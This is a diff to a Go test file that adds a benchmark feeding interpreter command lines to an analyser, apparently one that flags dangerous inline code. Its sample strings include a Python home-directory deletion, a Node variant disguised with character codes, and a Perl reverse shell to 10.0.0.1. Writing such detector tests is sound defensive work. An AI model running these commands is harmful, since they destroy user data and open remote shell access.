@@ -114,3 +114,18 @@ func TestInlineBlowUp(t *testing.T) {
 		}
 	}
 }
+
+// BenchmarkInlineCode analyses interpreter command lines: a routine one,
+// a literal command, a disguised one, a reverse shell.
+func BenchmarkInlineCode(b *testing.B) {
+	cmds := []string{
+		`python3 -c "import json,sys; print(json.load(sys.stdin)['version'])"`,
+		`python3 -c "import os; os.system('rm -rf ~')"`,
+		`node -e "require('child_'+'process').execSync(String.fromCharCode(114,109)+' -rf ~')"`,
+		`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1234,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
+	}
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		Analyze(cmds[i%len(cmds)], exampleOptions)
+	}
+}
